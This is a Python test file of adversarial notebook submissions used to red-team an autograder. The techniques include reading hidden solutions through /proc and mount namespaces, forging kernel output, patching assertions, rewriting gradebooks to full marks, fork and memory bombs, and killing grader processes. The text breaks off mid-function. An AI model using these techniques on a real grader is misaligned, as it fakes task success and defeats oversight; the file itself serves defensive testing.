# The code of every adversarial submission (tests/attacks.py): a cell at the top of the notebook runs
# this file's text with _ADV, a JSON configuration (which attack, the paths and secrets a worst-case
# attacker knows, the marker that tags its processes and writes), and every answer cell of the handout
# ends with ``_adv_after_cell("<grade_id>")``.
#
# An attack that gets something it should not (a solution file, the reference, the grading seed, an
# answer over the network) turns it into grade, so that a leak shows up as a score above the untouched
# handout's. Attacks that kill, tamper or linger only ever target what the test created: the processes
# below the test's pytest process (or anything, once inside a private pid namespace), the test's
# course folders, CSV files and sockets.
#
# This file is not imported by the tests; it is read as text (attacks.KERNEL_CODE).

import os as _os
import sys as _sys
import json as _json
import base64 as _b64

_ADV = _json.loads(_b64.b64decode("__CONFIG__").decode())
_ADV_LEAK = {}                     # grade_id -> code that defines that cell's functions
_ADV_STATE = {"last": {}, "lag": {}, "honest": None, "wrap": _ADV.get("wrap")}
_IP = get_ipython()  # noqa: F821 (the kernel's)


def _adv_log(*parts):
    print("adv:", *parts, flush=True)


def _adv_name_thread(name=None):
    """Tag this thread (for the main thread: the process) with the marker, as /proc/<pid>/comm shows."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, (name or _ADV["marker"]).encode()[:15], 0, 0, 0)
    except Exception:
        pass


def _adv_read(path, mode="r"):
    try:
        with open(path, mode) as fh:
            return fh.read()
    except Exception:
        return None


def _adv_answers(text):
    """grade_id -> answer code of the solution cells of a notebook's JSON text (if it has answers)."""
    try:
        nb = _json.loads(text)
    except Exception:
        return {}
    found = {}
    for cell in nb.get("cells", []):
        meta = cell.get("metadata", {}).get("nbgrader", {})
        src = cell.get("source", "")
        src = src if isinstance(src, str) else "".join(src)
        if cell.get("cell_type") == "code" and meta.get("solution") and "NotImplementedError" not in src \
                and "_adv_after_cell" not in src:
            found[meta.get("grade_id")] = src
    return found


def _adv_leak(answers, how):
    n = 0
    for gid, src in (answers or {}).items():
        if gid in _ADV["funcs"] and gid not in _ADV_LEAK:
            _ADV_LEAK[gid] = src
            n += 1
    if n:
        _adv_log(f"LEAK: {n} answers via {how}")
    return n


def _adv_leak_notebook_paths(paths, how):
    for path in paths:
        text = _adv_read(path)
        if text and _adv_leak(_adv_answers(text), f"{how} ({path})"):
            return True
    return False


def _adv_leak_honest(how):
    """The attack found a secret (the grading seed, a way out): it uses the answers it carries."""
    _adv_log(f"FOUND {how}")
    _adv_leak(_ADV["honest"], how)


def _adv_source_paths(prefix=""):
    a = _ADV["assignment"]
    return [f"{prefix}{_ADV['course']}/source/{a}/{a}.ipynb", f"{prefix}{_ADV['repo']}/notebooks/source/{a}/{a}.ipynb"]


def _adv_after_cell(gid):
    """Appended to each answer cell: replace the cell's functions by leaked answers, or wrap them."""
    if not _ADV_LEAK and _ADV.get("retry"):
        _adv_attack(again=True)
    code = _ADV_LEAK.get(gid)
    if code:
        try:
            exec(compile(code, "<leaked answer>", "exec"), _IP.user_ns)
        except Exception as error:
            _adv_log("a leaked answer failed:", gid, repr(error))
        return
    if _ADV_STATE["wrap"]:
        for name in _ADV["funcs"].get(gid, []):
            _IP.user_ns[name] = _adv_wrap(name, _ADV_STATE["wrap"])


# ------------------------------------------------------------------------------------- processes

def _adv_ppid(pid):
    try:
        return int(_adv_read(f"/proc/{pid}/stat").rsplit(")", 1)[1].split()[1])
    except Exception:
        return 0


def _adv_ancestors():
    chain, pid = [], _os.getppid()
    while pid > 1 and len(chain) < 64:
        chain.append(pid)
        pid = _adv_ppid(pid)
    return chain


def _adv_same_pid_namespace():
    """False only when this process is known to be in a pid namespace of its own (then kill() cannot
    reach anything outside it); when in doubt, True (and the attacks hold back)."""
    try:
        return _os.readlink("/proc/self/ns/pid") == _ADV["host_pidns"]
    except OSError:
        return True


def _adv_may_kill(pid):
    """Safety of the machine the tests run on: never pid 1, never the test process or anything that
    is not below it; anything visible from a private pid namespace is the sandbox's own."""
    if pid in (0, 1, _os.getpid()):
        return False
    if not _adv_same_pid_namespace():
        return True
    if pid == _ADV["pytest_pid"]:
        return False
    p = pid
    for _ in range(64):
        p = _adv_ppid(p)
        if p == _ADV["pytest_pid"]:
            return True
        if p <= 1:
            return False
    return False


def _adv_kill(pids, why):
    import signal
    killed = []
    for pid in pids:
        if _adv_may_kill(pid):
            try:
                _os.kill(pid, signal.SIGKILL)
                killed.append(pid)
            except OSError:
                pass
    _adv_log(f"{why}: killed {killed}")
    return killed


def _adv_listdir(path):
    try:
        return _os.listdir(path)
    except OSError:
        return []


def _adv_all_pids():
    return [int(p) for p in _os.listdir("/proc") if p.isdigit()]


def _adv_cmdline(pid):
    data = _adv_read(f"/proc/{pid}/cmdline", "rb") or b""
    return data.replace(b"\0", b" ").decode(errors="replace")


_ADV_FULL_MARKS = ("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
                   "WHERE cell_id IN (SELECT id FROM grade_cells) AND notebook_id IN (SELECT n.id FROM "
                   "submitted_notebook n JOIN submitted_assignment s ON n.assignment_id = s.id WHERE s.student_id = ?)")

_ADV_LINGER = r'''
import os, sys, time, json, csv, sqlite3
FULL_MARKS = sys.argv[3]
marker, cfg = sys.argv[1], json.loads(sys.argv[2])
try:
    import ctypes
    ctypes.CDLL(None).prctl(15, marker.encode()[:15], 0, 0, 0)
except Exception:
    pass

def tamper():
    """After the run: full marks for this student in the CSV and the gradebooks, and the marker left
    where the test looks for it."""
    for db in (cfg["course"] + "/gradebook.db", cfg["bystander"] + "/gradebook.db"):
        try:
            con = sqlite3.connect(db, timeout=5)
            con.execute(FULL_MARKS, (cfg["student"],))
            con.execute("INSERT OR IGNORE INTO student (id) VALUES (?)", (marker,))
            con.commit()
            con.close()
        except Exception:
            pass
    try:
        with open(cfg["csv"], newline="") as fh:
            rows = list(csv.reader(fh))
        head = rows[0]
        for row in rows[1:]:
            if row and row[0] == cfg["student"]:
                row[head.index("status")] = "graded"
                row[head.index("auto_score")] = row[head.index("auto_max")] or "1000"
                row[head.index("notes")] = marker
        with open(cfg["csv"], "w", newline="") as fh:
            csv.writer(fh).writerows(rows)
    except Exception:
        pass

deadline, done = time.time() + cfg["linger"], not cfg.get("tamper")
while time.time() < deadline:
    if not done and os.path.exists(cfg["csv"]):
        time.sleep(1.0)
        tamper()
        done = True
    time.sleep(0.2)
'''


def _adv_linger(tamper=False, detach=True, cgroup=False):
    """Start a process that outlives the kernel if it can (double fork, setsid; into the root cgroups
    with ``cgroup``), tagged with the marker in its name, command line and environment; with
    ``tamper`` it rewrites the CSV and the gradebooks once the run has written the CSV."""
    cfg = {k: _ADV[k] for k in ("course", "bystander", "csv", "student")}
    cfg.update(linger=_ADV["linger"], tamper=tamper)
    pid = _os.fork()
    if pid:
        try:
            _os.waitpid(pid, 0)
        except OSError:
            pass
        return
    try:
        if detach:
            _os.setsid()
            if _os.fork():
                _os._exit(0)
        _adv_name_thread()
        if cgroup:
            for root in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/systemd",
                         "/sys/fs/cgroup/memory", "/sys/fs/cgroup/freezer", "/sys/fs/cgroup"):
                try:
                    with open(root + "/cgroup.procs", "w") as fh:
                        fh.write(str(_os.getpid()))
                except Exception:
                    pass
        for fd in range(3, 1024):   # not the kernel's sockets
            try:
                _os.close(fd)
            except OSError:
                pass
        env = dict(_os.environ, SGD_ADV_MARKER=_ADV["marker"])
        _os.execve(_sys.executable, [_sys.executable, "-c", _ADV_LINGER, _ADV["marker"], _json.dumps(cfg),
                                    _ADV_FULL_MARKS], env)
    except BaseException:
        pass
    finally:
        import time
        time.sleep(_ADV["linger"])
        _os._exit(0)


# ------------------------------------------------------------------------------------- the attacks

def _adv_proc_root_paths(pids):
    paths = []
    for pid in pids:
        paths += _adv_source_paths(f"/proc/{pid}/root")
    return paths


def _adv_umount_hiding_mounts():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    targets = [_ADV["course"], f"{_ADV['repo']}/notebooks/source", f"{_ADV['repo']}/notebooks",
               _ADV["repo"], f"{_ADV['repo']}/autograder"]
    mounts = []
    for line in (_adv_read("/proc/self/mountinfo") or "").splitlines():
        point = line.split()[4]
        if any(point == t or point.startswith(t + "/") for t in targets):
            mounts.append(point)
    for point in sorted(set(mounts), key=len, reverse=True):
        for _ in range(4):
            if libc.umount2(point.encode(), 2) != 0:   # MNT_DETACH
                break
    _adv_log("unmounted", mounts)


def _adv_attack(again=False):
    attack = _ADV["attack"]
    a, course = _ADV["assignment"], _ADV["course"]
    if attack == "esc_course_source":
        _adv_leak_notebook_paths(_adv_source_paths(), "the course folder")
    elif attack == "esc_proc_root":
        pids = _adv_ancestors() + sorted(_adv_all_pids())
        _adv_leak_notebook_paths(_adv_proc_root_paths(pids), "/proc/<pid>/root")
    elif attack == "esc_proc1_root":
        _adv_leak_notebook_paths(_adv_proc_root_paths([1]) + [f"/proc/1/cwd/{course}/source/{a}/{a}.ipynb"],
                                 "/proc/1/root")
    elif attack == "esc_umount":
        _adv_umount_hiding_mounts()
        _adv_leak_notebook_paths(_adv_source_paths(), "umount")
    elif attack == "esc_unshare_mount":
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x00020000) != 0:                              # CLONE_NEWNS
            libc.unshare(0x10000000 | 0x00020000)                     # CLONE_NEWUSER | CLONE_NEWNS
        libc.mount(b"none", b"/", None, 0x4000 | (1 << 18), None)      # MS_REC | MS_PRIVATE
        _adv_umount_hiding_mounts()
        procdir = _os.path.join(_os.getcwd(), "newproc")
        _os.makedirs(procdir, exist_ok=True)
        libc.mount(b"proc", procdir.encode(), b"proc", 0, None)
        paths = _adv_source_paths() + _adv_source_paths(procdir + "/1/root")
        _adv_leak_notebook_paths(paths, "unshare + mount")
    elif attack == "esc_other_student":
        other = _ADV["victim"]
        _adv_leak_notebook_paths([f"{course}/submitted/{other}/{a}/{a}.ipynb",
                                  f"{course}/autograded/{other}/{a}/{a}.ipynb"], "another student's files")
        text = _adv_read(f"{course}/.grading/journal/{a}/{other}.json")
        if text:
            try:
                _adv_leak(_adv_answers(_json.loads(text)["notebooks"][a]), "the grader's journal")
            except Exception:
                pass
    elif attack == "esc_hidden_tests":
        text = _adv_read(f"{_ADV['repo']}/autograder/hidden_tests/{a}.py")
        if text is None:
            try:
                import importlib, inspect
                text = inspect.getsource(importlib.import_module(f"autograder.hidden_tests.{a}"))
            except Exception:
                text = None
        if text:   # the hidden tests name the reference modules: copy them from their files
            _adv_log("FOUND the hidden tests,", len(text), "characters")
            _adv_leak_references("file")
    elif attack == "esc_write":
        _adv_write_everywhere()
    elif attack == "esc_network_tcp":
        import socket
        _adv_leak_over(socket.AF_INET, ("127.0.0.1", _ADV["port"]), "TCP on 127.0.0.1")
    elif attack == "esc_network_unix":
        import socket
        _adv_leak_over(socket.AF_UNIX, "\0" + _ADV["unix_name"], "an abstract unix socket")
    elif attack == "esc_daemon" and not again:
        _adv_linger(tamper=True)
    elif attack == "esc_cgroup" and not again:
        _adv_linger(tamper=True, cgroup=True)
    elif attack == "esc_fork_bomb" and not again:
        _adv_fork_bomb()
    elif attack == "esc_memory_bomb" and not again:
        _adv_memory_bomb()
    elif attack.startswith("seed_"):
        if _adv_seed_found(attack):
            _adv_leak_honest(f"the grading seed ({attack})")
    elif attack.startswith("marker_"):
        if _adv_marker_found(attack):
            _adv_leak_honest(f"a grading marker ({attack})")
    elif attack == "crash_parent" and not again:
        _adv_kill([_os.getppid()], "parent")
    elif attack == "crash_ancestors" and not again:
        _adv_kill(_adv_ancestors()[::-1], "ancestors")   # from the top: a parent's death may end this one
    elif attack == "crash_everything" and not again:
        import signal
        if not _adv_same_pid_namespace():
            _os.kill(-1, signal.SIGKILL)
        _adv_log("kill(-1) refused: the kernel shares the test machine's pid namespace")
        _adv_kill(_adv_ancestors()[::-1], "ancestors (instead of kill(-1))")
    elif attack == "crash_group" and not again:
        import signal
        for pid in _adv_ancestors()[:3][::-1]:
            try:
                group = _os.getpgid(pid)
            except OSError:
                continue
            if _adv_may_kill(group):
                try:
                    _os.killpg(group, signal.SIGKILL)
                    _adv_log("killed process group", group)
                except OSError:
                    pass
    elif attack == "crash_by_name" and not again:
        words = ("autograder", "sgd-course", "nbgrader", "ipykernel", "zygote")
        _adv_kill(sorted((p for p in _adv_all_pids() if any(w in _adv_cmdline(p) for w in words)),
                         key=lambda p: p in _adv_ancestors()[:1]), "by name")   # its own parent last
    elif attack == "crash_siblings" and not again:
        mine = set(_adv_ancestors())
        _adv_kill([p for p in _adv_all_pids() if p not in mine and ("zygote" in _adv_cmdline(p)
                   or "ipykernel" in _adv_cmdline(p))], "siblings")
    elif attack == "crash_segfault" and not again:
        import ctypes
        print("visible tests passed", flush=True)
        ctypes.string_at(0)


def _adv_leak_over(family, address, how):
    import socket
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(address)
        s.sendall((_ADV["marker"] + "\n").encode())
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        _adv_leak(_json.loads(data.decode()), how)
    except Exception as error:
        _adv_log("no network:", repr(error))


def _adv_write_everywhere():
    """Leave the marker in the course folder, another student's files, the gradebooks and the CSV;
    full marks for the plain wrong answer in the gradebooks."""
    import sqlite3
    a, course, m = _ADV["assignment"], _ADV["course"], _ADV["marker"]
    victim = _ADV["victim"]
    wrote = []
    for path in [f"{course}/{m}.txt", f"{course}/source/{a}/{m}.txt", f"{course}/release/{a}/{m}.txt",
                 f"{course}/submitted/{victim}/{a}/{m}.txt", f"{course}/autograded/{victim}/{a}/{m}.txt",
                 f"{course}/feedback/{victim}/{a}/{m}.txt", f"{_ADV['bystander']}/{m}.txt",
                 f"{_ADV['bystander']}/source/{a}/{m}.txt", _ADV["csv"], f"{_ADV['csv']}.{m}"]:
        try:
            _os.makedirs(_os.path.dirname(path), exist_ok=True)
            with open(path, "a") as fh:
                fh.write(f"written by {m}\n")
            wrote.append(path)
        except Exception:
            pass
    for path in [f"{course}/autograded/{victim}/{a}/{a}.ipynb", f"{course}/feedback/{victim}/{a}/{a}.html",
                 f"{course}/source/{a}/{a}.ipynb"]:
        try:
            with open(path, "a") as fh:
                fh.write(f"\n{m}\n")
            wrote.append(path)
        except Exception:
            pass
    for db in (f"{course}/gradebook.db", f"{_ADV['bystander']}/gradebook.db"):
        try:
            con = sqlite3.connect(db, timeout=5)
            for student in (_ADV["student"], _ADV["plain_wrong"]):   # (its own grades are saved later)
                con.execute(_ADV_FULL_MARKS, (student,))
            con.execute("INSERT OR IGNORE INTO student (id) VALUES (?)", (m,))
            con.commit()
            con.close()
            wrote.append(db)
        except Exception:
            pass
    _adv_log("wrote", wrote)


def _adv_fork_bomb():
    import time
    children = 0
    try:
        for _ in range(300):
            pid = _os.fork()
            if pid == 0:
                try:
                    _adv_name_thread()
                    _os.setsid()
                    time.sleep(_ADV["linger"])
                finally:
                    _os._exit(0)
            children += 1
    except OSError as error:
        _adv_log("fork refused after", children, repr(error))
    _adv_log("forked", children)


def _adv_memory_bomb():
    hoard = []
    try:
        for _ in range(32):                      # at most 4 GB, every page touched
            hoard.append(bytearray(b"\1") * (128 * 2 ** 20))
    except MemoryError:
        pass
    _adv_log("memory bomb got", len(hoard) * 128, "MB")
    del hoard


def _adv_marker_found(how):
    """Whether anything in the kernel says "being graded": nbgrader's NBGRADER_EXECUTION or any variable
    that speaks of grading, or the course library's old ``widgets.grading()``."""
    if how == "marker_env":
        return any(any(word in k.upper() for word in ("NBGRADER", "GRADING", "GRADER", "AUTOGRAD"))
                   or v.lower() in ("autograde", "validate", "grading") for k, v in _os.environ.items())
    try:
        import course.widgets as _w
        return bool(getattr(_w, "grading", lambda: False)())
    except Exception:
        return False


def _adv_seed_found(how):
    seed = str(_ADV["seed"])
    if how == "seed_env":
        return any(seed in f"{k}={v}" for k, v in _os.environ.items()) or \
            seed.encode() in (_adv_read("/proc/self/environ", "rb") or b"")
    if how == "seed_proc":
        for pid in _adv_all_pids():
            for what in ("environ", "cmdline"):
                if seed.encode() in (_adv_read(f"/proc/{pid}/{what}", "rb") or b""):
                    return True
        return False
    if how == "seed_files":   # where a worst-case attacker would look first, then a small walk
        a = _ADV["assignment"]
        known = [f"{_ADV['course']}/.grading/journal/{a}/run.json", _ADV["csv"],
                 *(_os.path.join(_os.path.dirname(_os.path.dirname(_ADV["csv"])), d, "grades.csv")
                   for d in _adv_listdir(_os.path.dirname(_os.path.dirname(_ADV["csv"])))),
                 *(f"{_ADV['bystander']}/.grading/journal/{d}/run.json"
                   for d in _adv_listdir(f"{_ADV['bystander']}/.grading/journal"))]
        if any(seed.encode() in (_adv_read(path, "rb") or b"") for path in known):
            return True
        budget = 800
        for root in [_os.getcwd(), _os.path.expanduser("~"), _os.environ.get("TMPDIR", "/tmp"),
                     _os.environ.get("IPYTHONDIR", ""), _os.environ.get("MPLCONFIGDIR", "")]:
            if not root or not _os.path.isdir(root):
                continue
            for folder, dirs, files in _os.walk(root):
                if folder.count(_os.sep) - root.count(_os.sep) >= 2:
                    dirs[:] = []
                for name in files:
                    budget -= 1
                    if budget < 0:
                        return False
                    path = _os.path.join(folder, name)
                    try:
                        if _os.path.getsize(path) < 2 ** 18 and seed.encode() in (_adv_read(path, "rb") or b""):
                            return True
                    except OSError:
                        pass
        return False
    if how == "seed_rng":
        import random
        import numpy as np
        s = int(seed)
        if random.getstate() == random.Random(s).getstate():
            return True
        return bool(np.array_equal(np.random.get_state()[1], np.random.RandomState(s % 2 ** 32).get_state()[1]))
    return False


# ------------------------------------------------------------------------------------- forging

def _adv_emit_result(text):
    dh = _IP.displayhook
    try:
        dh.start_displayhook()
        dh.write_output_prompt()
        dh.write_format_data({"text/plain": text}, {})
        dh.finish_displayhook()
    except Exception as error:
        _adv_log("emit failed", repr(error))


def _adv_forge():
    forge = _ADV.get("forge")
    if forge == "pre_result":
        _IP.events.register("pre_run_cell", lambda *a: _adv_emit_result("1.0"))
    elif forge == "post_result":
        _IP.events.register("post_run_cell", lambda *a: _adv_emit_result("1.0"))
    elif forge == "big_result":   # more points than the cell has
        _IP.events.register("pre_run_cell", lambda *a: _adv_emit_result("1000000000.0"))
    elif forge == "display":
        from IPython.display import display
        _IP.events.register("pre_run_cell", lambda *a: display({"text/plain": "1.0"}, raw=True))
    elif forge == "raw_iopub":
        def send(*a):
            dh = _IP.displayhook
            try:
                dh.session.send(dh.pub_socket, "execute_result",
                                {"data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": _IP.execution_count},
                                parent=dh.parent_header, ident=dh.topic)
            except Exception as error:
                _adv_log("raw send failed", repr(error))
        _IP.events.register("pre_run_cell", send)
    elif forge == "custom_exc":
        _IP.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: print("visible tests passed"))
    elif forge == "patch_numpy":
        import builtins
        import numpy as np
        np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
        np.shape = lambda x: getattr(x, "_want_shape", ())

        class _Pass(Exception):
            pass
        builtins.AssertionError = _Pass
        for name in list(_sys.modules):
            if name.startswith("autograder"):
                mod = _sys.modules[name]
                for attr in ("assert_matches", "student_call", "run_hidden"):
                    if hasattr(mod, attr):
                        setattr(mod, attr, lambda *a, **k: None)
    elif forge == "print_passed":
        print("visible tests passed\nAll tests passed! 100/100")
    elif forge == "blank_cells":
        _IP.input_transformers_cleanup.append(lambda lines: ["print('visible tests passed')\n"])
    elif forge == "strip_asserts":
        import ast

        class _Strip(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()

            def visit_Raise(self, node):
                return ast.Pass()

            def visit_Module(self, node):
                self.generic_visit(node)
                return ast.Module(body=[ast.Try(body=node.body or [ast.Pass()], handlers=[ast.ExceptHandler(
                    type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])],
                    orelse=[], finalbody=[])], type_ignores=[])
        _IP.ast_transformers.append(_Strip())
    elif forge == "handler":
        kernel = _IP.kernel

        async def fake_execute(*args, **kwargs):
            parent = args[-1] if args else kwargs.get("parent")
            stream = args[0] if len(args) >= 3 else None
            ident = args[1] if len(args) >= 3 else None
            try:
                kernel.session.send(kernel.iopub_socket, "execute_result",
                                    {"data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": 1},
                                    parent=parent, ident=b"execute_result")
                kernel.session.send(stream or kernel.shell_stream, "execute_reply",
                                    {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []},
                                    parent, ident=ident)
            except Exception as error:
                _adv_log("fake reply failed", repr(error))
        kernel.shell_handlers["execute_request"] = fake_execute
        kernel.execute_request = fake_execute
    elif forge == "rebind":   # the kernel side of the grader: drop the list of forbidden modules
        for name in list(_IP.user_ns):
            value = _IP.user_ns[name]
            if name.startswith("__sgd") and callable(value):
                def call(target, request, forbidden=(), *rest, _orig=value):
                    return _orig(target, request, [], *rest)
                _IP.user_ns[name] = call
                _adv_log("rebound", name)
    elif forge == "fake_setprofile":
        import threading
        _sys.setprofile(None)
        _sys.setprofile = lambda *a, **k: None
        threading.setprofile = lambda *a, **k: None


# ------------------------------------------------------------------------------------- wrapped answers

def _adv_from_visible_test():
    """True when called (directly or not) by a visible test cell of the notebook, False for any
    other caller (the grader's calls, the notebook's other cells)."""
    import linecache
    frame = _sys._getframe(2)
    for _ in range(40):
        if frame is None:
            return False
        if frame.f_code.co_name == "<module>":
            text = "".join(linecache.getlines(frame.f_code.co_filename))
            if text and any(line in text for line in _ADV["visible"]):
                return True
        frame = frame.f_back
    return False


def _adv_honest(name):
    ns = _ADV_STATE["honest"]
    if ns is None:
        ns = {k: v for k, v in _IP.user_ns.items() if not k.startswith("_")}
        for gid, src in _ADV["honest"].items():
            try:
                exec(compile(src, "<honest answer>", "exec"), ns)
            except Exception as error:
                _adv_log("honest answer failed", gid, repr(error))
        _ADV_STATE["honest"] = ns
    return ns[name]


def _adv_mutate(obj, how, rng, seen):
    import numpy as np
    if id(obj) in seen:
        return False
    seen.add(id(obj))
    if isinstance(obj, np.ndarray):
        if obj.size and obj.flags.writeable:
            if how == "zero":
                obj[...] = 0
            else:
                obj[...] = rng.permutation(obj.ravel()).reshape(obj.shape)
            return True
        return False
    if isinstance(obj, dict):
        return any([_adv_mutate(v, how, rng, seen) for v in obj.values()])
    if isinstance(obj, (list, tuple)):
        return any([_adv_mutate(v, how, rng, seen) for v in obj])
    if hasattr(obj, "data") and hasattr(obj, "parents"):
        try:
            obj.data = 0.0 if how == "zero" else -obj.data
            for parent in obj.parents:
                _adv_mutate(parent, how, rng, seen)
            return True
        except Exception:
            return False
    return False


class _AdvAny:
    """Equal to everything, a number, an array, a tuple of itself."""
    shape = (2, 2)
    dtype = "float64"
    ndim = 2
    size = 4

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    def __bool__(self):
        return True

    def __len__(self):
        return 2

    def __iter__(self):
        return iter([self, self])

    def __getitem__(self, key):
        return self

    def __array__(self, *a, **k):
        import numpy as np
        return np.zeros((2, 2))

    def __getattr__(self, name):
        return self

    def __call__(self, *a, **k):
        return self

    def __hash__(self):
        return 0

    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = \
        __pow__ = __neg__ = __abs__ = __matmul__ = __rmatmul__ = lambda self, *a: self


def _adv_liar():
    import numpy as np

    class Liar(np.ndarray):
        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return np.True_

        def __eq__(self, other):
            return np.True_

        __ne__ = lambda self, other: np.False_
    return np.zeros(2).view(Liar)


def _adv_deep():
    nested = []
    for _ in range(200_000):
        nested = [nested]
    return nested


def _adv_probe_callables(args, kwargs):
    """Look for the grader's own globals behind the callables it passed (proxies, recipes): with its
    ``open``, read the source notebook."""
    found = []
    for value in list(args) + list(kwargs.values()):
        for path in (("__globals__",), ("__func__", "__globals__"), ("__init__", "__globals__"),
                     ("__class__", "__init__", "__globals__"), ("value", "__globals__"),
                     ("__call__", "__globals__"), ("calls", "__init__", "__globals__"),
                     ("__reduce_ex__",)):
            obj = value
            try:
                for attr in path:
                    obj = getattr(obj, attr)
                if callable(obj) and path == ("__reduce_ex__",):
                    obj = obj(2)
                found.append(obj)
            except Exception:
                continue
    for obj in found:
        try:
            builtins_ = obj["__builtins__"] if "__builtins__" in obj else None
            opener = builtins_["open"] if isinstance(builtins_, dict) else getattr(builtins_, "open", None)
            for path in _adv_source_paths():
                text = opener(path).read()
                if _adv_leak(_adv_answers(text), "the grader's globals behind a proxy"):
                    return True
        except Exception:
            continue
    return False


def _adv_crash_grader(args, kwargs):
    """Abuse what the grader passed: its random generator, its callables."""
    import numpy as np
    for value in list(args) + list(kwargs.values()):
        for attempt in (lambda v: v.bit_generator.ctypes.next_double(0),
                        lambda v: v.bit_generator.ctypes.next_uint64(1),
                        lambda v: v.integers(0, 2, size=2 ** 40),
                        lambda v: v.permutation(2 ** 40),
                        lambda v: setattr(v.bit_generator, "state", {"bit_generator": "PCG64", "state": 1}),
                        lambda v: v(np.broadcast_to(np.float64(1.0), (2 ** 20, 2 ** 20)), 0),
                        lambda v: v(_adv_deep(), 0),
                        lambda v: v(*([0] * 10_000))):
            try:
                attempt(value)
            except BaseException:
                pass


def _adv_ref_target(name):
    mod, attr, adapter = _ADV["refs"][name]
    return mod, attr, adapter


def _adv_leak_references(how):
    """Answers that are the reference functions, copied (their source, or their files) so that they
    belong to no course module; or replayed from a table computed with the run's seed."""
    for gid, names in _ADV["funcs"].items():
        if all(n in _ADV["refs"] for n in names):
            _ADV_LEAK[gid] = "\n".join(f"{n} = _adv_ref_function({n!r}, {how!r})" for n in names)
    _adv_log("answers from the reference via", how)


_ADV_COPIES = {}


def _adv_copy_module(mod, how):
    import importlib
    import inspect
    if mod in _ADV_COPIES:
        return _ADV_COPIES[mod]
    if how == "getsource":
        text = inspect.getsource(importlib.import_module(mod))
    else:
        rel = mod.replace(".", "/") + ".py"
        text = _adv_read(f"{_ADV['repo']}/{rel}")
        if text is None:
            text = _adv_read(importlib.import_module(mod).__file__)
    ns = {"__name__": mod + "_student_copy", "__package__": mod.rsplit(".", 1)[0]}
    exec(compile(text, "<my own code>", "exec"), ns)
    _ADV_COPIES[mod] = ns
    return ns


def _adv_ref_function(name, how):
    import functools
    import importlib
    import threading
    mod, attr, adapter = _adv_ref_target(name)
    if how in ("getsource", "file"):
        ref = _adv_copy_module(mod, how)[attr]
    elif how == "hidden_module":
        hidden = importlib.import_module(f"autograder.hidden_tests.{_ADV['assignment']}")
        ref = None
        for value in vars(hidden).values():
            if getattr(value, "__name__", None) == mod and hasattr(value, attr):
                ref = getattr(value, attr)
        ref = ref or getattr(importlib.import_module(mod), attr)
    elif how == "code_replace":
        orig = getattr(importlib.import_module(mod), attr)
        import types
        ref = types.FunctionType(orig.__code__.replace(co_filename="<my own code>"), orig.__globals__, attr,
                                 orig.__defaults__, orig.__closure__)
        ref.__kwdefaults__ = orig.__kwdefaults__
    else:
        ref = getattr(importlib.import_module(mod), attr)

    def call(*args, **kwargs):
        if how == "recipe":   # a recipe object made without running it here: the grader runs it
            from autograder.remote import Recipe
            recipe = Recipe.__new__(Recipe)
            recipe.qualname, recipe.args, recipe.kwargs, recipe.call = f"{mod}.{attr}", args, kwargs, True
            recipe.value = None
            return recipe
        if how == "thread":
            box = {}

            def run():
                try:
                    box["r"] = ref(*args, **kwargs)
                except BaseException as error:
                    box["e"] = error
            t = threading.Thread(target=run)
            t.start()
            t.join()
            if "e" in box:
                raise box["e"]
            return box["r"]
        if how in ("noprofile", "hidden_module"):
            _sys.setprofile(None)
            _sys.settrace(None)
            threading.setprofile(None)
        return ref(*args, **kwargs)
    functools.update_wrapper(call, ref)
    return call


def _adv_replay_table():
    """The grading-time checks, replayed here with the run's seed (from the environment) and the
    reference: a table of (inputs -> expected output), so that the graded call computes nothing."""
    import importlib
    hidden = importlib.import_module(f"autograder.hidden_tests.{_ADV['assignment']}")
    table = {}
    for name in _ADV["refs"]:
        check = getattr(hidden, f"check_{name}", None)
        if check is None:
            continue
        ref = _adv_ref_function(name, "getsource")

        def record(*args, _ref=ref, _name=name, **kwargs):
            result = _ref(*args, **kwargs)
            table[(_name, _adv_key(args, kwargs))] = result
            return result
        try:
            check(record)
        except BaseException:
            pass
    return table


def _adv_key(args, kwargs):
    import numpy as np

    def key(v):
        if isinstance(v, np.ndarray):
            return (v.shape, str(v.dtype), v.tobytes())
        if isinstance(v, (bool, np.bool_)):
            return bool(v)
        if isinstance(v, (int, np.integer)):
            return int(v)
        if isinstance(v, (float, np.floating)):
            return float(v)
        if isinstance(v, (str, type(None))):
            return v
        if isinstance(v, (list, tuple)):
            return tuple(key(x) for x in v)
        if isinstance(v, dict):
            return tuple((k, key(x)) for k, x in sorted(v.items()))
        text = repr(v)
        return text if " at 0x" not in text else "callable" if callable(v) else type(v).__name__
    return repr([key(v) for v in args] + [(k, key(v)) for k, v in sorted(kwargs.items())])


def _adv_wrap(name, mode):
    import functools
    stub = _IP.user_ns.get(name)

    def answer(*args, **kwargs):
        return _adv_behave(name, mode, args, kwargs)
    try:
        functools.update_wrapper(answer, stub)
    except Exception:
        pass
    return answer


def _adv_behave(name, mode, args, kwargs):
    import signal
    import numpy as np
    if mode.startswith("die_"):
        print("visible tests passed", flush=True)
        _sys.stdout.flush()
        if mode == "die_exit":
            _os._exit(0)
        if mode == "die_sysexit":
            raise SystemExit(0)
        if mode == "die_segfault":
            import ctypes
            ctypes.string_at(0)
        if mode == "die_sigkill":
            _os.kill(_os.getpid(), signal.SIGKILL)
        if mode == "die_abort":
